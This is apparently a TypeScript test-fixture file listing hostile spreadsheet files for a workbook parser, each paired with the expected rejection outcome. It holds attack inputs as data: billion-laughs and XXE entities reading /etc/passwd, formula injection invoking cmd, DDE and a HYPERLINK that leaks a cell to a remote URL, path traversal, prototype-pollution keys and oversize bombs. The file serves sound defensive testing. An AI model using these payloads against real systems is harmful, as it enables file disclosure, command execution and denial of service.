import { contentTypes, relationships, sheetMain, textRows, xlsx } from './build-office.ts';
import { type HostileFile, laughs, noise } from './hostile-file.ts';

const sheetXml = (inside: string) =>
  `<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">${inside}</worksheet>`;
const sheetPart = 'xl/worksheets/sheet1.xml';
const one = { sheets: [{ name: 's', rows: textRows([['a']]) }] };
const oneSheet = (rows: string, more = '') => xlsx({ sheets: [{ name: 's', rows, after: more }] });
const withPart = (part: string, content: string | Uint8Array) => xlsx(one, { [part]: content });

/** Workbooks that are too much or point elsewhere. */
export const hostileWorkbooks: readonly HostileFile[] = [
  {
    what: 'a million rows without content',
    name: 'a.xlsx',
    bytes: () => oneSheet(Array.from({ length: 1_048_576 }, (_, at) => `<row r="${at + 1}"/>`).join('')),
    outcome: null,
  },
  {
    what: 'row 20,000,000',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="20000000"><c r="A20000000"><v>1</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'a row that is no number',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1e9"><c><v>1</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: '17,000 columns',
    name: 'a.xlsx',
    bytes: () => oneSheet(`<row>${'<c><v>1</v></c>'.repeat(17_000)}</row>`),
    outcome: 'too_many_columns',
  },
  {
    what: 'one cell at XFD1048576',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'),
    outcome: 'too_many_columns',
  },
  {
    what: 'one cell at A1048576',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row r="1048576"><c r="A1048576"><v>1</v></c></row>'),
    outcome: 'too_many_rows',
  },
  {
    what: 'dimensions of everything',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        sheetPart,
        sheetXml('<dimension ref="A1:XFD1048576"/><cols><col min="1" max="16384"/></cols><sheetData/>'),
      ),
    outcome: null,
  },
  {
    what: 'a billion laughs',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        sheetPart,
        `<?xml version="1.0"?>${laughs}${sheetXml('<sheetData><row><c t="str"><v>&a12;</v></c></row></sheetData>')}`,
      ),
    outcome: 'doctype',
  },
  {
    what: 'an entity without its declaration',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row><c t="str"><v>&lol;</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'an external entity',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        'xl/sharedStrings.xml',
        '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst><si><t>&e;</t></si></sst>',
      ),
    outcome: 'doctype',
  },
  {
    what: 'a DOCTYPE in the content types',
    name: 'a.xlsx',
    bytes: () => withPart('[Content_Types].xml', `<!DOCTYPE x>${contentTypes(['xl/workbook.xml', sheetMain])}`),
    outcome: 'doctype',
  },
  {
    what: 'a billion laughs in UTF-16',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, Buffer.from(`\uFEFF${laughs}${sheetXml('&a12;')}`, 'utf16le')),
    outcome: 'doctype',
  },
  {
    what: 'XML 10,000 levels deep',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`${'<a>'.repeat(10_000)}${'</a>'.repeat(10_000)}`)),
    outcome: 'too_deep',
  },
  {
    what: 'an attribute of 20 MB',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`<sheetData a="${Buffer.alloc(20 * 1024 * 1024, 'ab7').toString()}"/>`)),
    outcome: 'damaged',
  },
  {
    what: 'an attribute of 6 MB that packs badly',
    name: 'a.xlsx',
    bytes: () => withPart(sheetPart, sheetXml(`<sheetData a="${noise(6 * 1024 * 1024)}"/>`)),
    outcome: 'damaged',
  },
  {
    what: 'a shared text that is not there',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row><c t="s"><v>99999999</v></c></row>'),
    outcome: 'damaged',
  },
  {
    what: 'a million shared texts',
    name: 'a.xlsx',
    bytes: () =>
      xlsx({ ...one, shared: Array.from({ length: 1_000_000 }, (_, at) => `<si><t>${at}</t></si>`).join('') }),
    outcome: null,
  },
  {
    what: 'shared texts of 80 MB',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, shared: `<si><t>${noise(30_000)}</t></si>`.repeat(2700) }),
    outcome: 'unpacked_too_large',
  },
  {
    what: 'one shared text of 10 MB, in pieces',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, shared: `<si>${'<r><t>abcdefghij</t></r>'.repeat(1_000_000)}</si>` }),
    outcome: 'cell_too_long',
  },
  {
    what: '100,000 styles',
    name: 'a.xlsx',
    bytes: () => xlsx({ ...one, styles: `<cellXfs>${'<xf numFmtId="14"/>'.repeat(100_000)}</cellXfs>` }),
    outcome: 'damaged',
  },
  {
    what: '100,000 merged cells',
    name: 'a.xlsx',
    bytes: () => oneSheet(textRows([['a']]), `<mergeCells>${'<mergeCell ref="A1:B2"/>'.repeat(100_000)}</mergeCells>`),
    outcome: null,
  },
  {
    what: '500 sheets',
    name: 'a.xlsx',
    bytes: () => xlsx({ sheets: Array.from({ length: 500 }, (_, at) => ({ name: `s${at}`, rows: '' })) }),
    outcome: 'too_many_sheets',
  },
  {
    what: 'formulas that call programs',
    name: 'a.xlsx',
    bytes: () =>
      oneSheet(
        '<row><c t="str"><f>cmd|\'/c calc\'!A0</f><v>shown</v></c><c><f>HYPERLINK("http://x/?"&amp;A1)</f></c><c t="str"><f>DDE("cmd")</f><v/></c></row>',
      ),
    outcome: null,
  },
  {
    what: 'headings called __proto__ and constructor',
    name: 'a.xlsx',
    bytes: () =>
      oneSheet(
        textRows([
          ['__proto__', 'constructor', 'toString'],
          ['a', 'b', 'c'],
        ]),
      ),
    outcome: null,
  },
  {
    what: 'attributes called __proto__',
    name: 'a.xlsx',
    bytes: () => oneSheet('<row __proto__="1" constructor="2"><c __proto__="x"><v>1</v></c></row>'),
    outcome: null,
  },
  {
    what: 'a workbook with macros, renamed',
    name: 'a.xlsx',
    bytes: () => withPart('xl/vbaProject.bin', 'x'),
    outcome: 'macros',
  },
  {
    what: 'a type with macros, renamed',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        '[Content_Types].xml',
        contentTypes(['xl/workbook.xml', 'application/vnd.ms-excel.sheet.macroEnabled.main+xml']),
      ),
    outcome: 'macros',
  },
  {
    what: 'links to other workbooks',
    name: 'a.xlsx',
    bytes: () =>
      withPart(
        'xl/_rels/workbook.xml.rels',
        relationships(
          ['s1', 'worksheet', sheetPart.slice(3)],
          ['x1', 'externalLink', 'http://example.com/x.xlsx', 'External'],
        ),
      ),
    outcome: null,
  },
  {
    what: 'a sheet that is elsewhere',
    name: 'a.xlsx',
    bytes: () =>
      withPart('xl/_rels/workbook.xml.rels', relationships(['s1', 'worksheet', 'file:///etc/passwd', 'External'])),
    outcome: 'damaged',
  },
  {
    what: 'a sheet above the package',
    name: 'a.xlsx',
    bytes: () =>
      withPart('xl/_rels/workbook.xml.rels', relationships(['s1', 'worksheet', '../../../../../etc/passwd'])),
    outcome: 'damaged',
  },
];
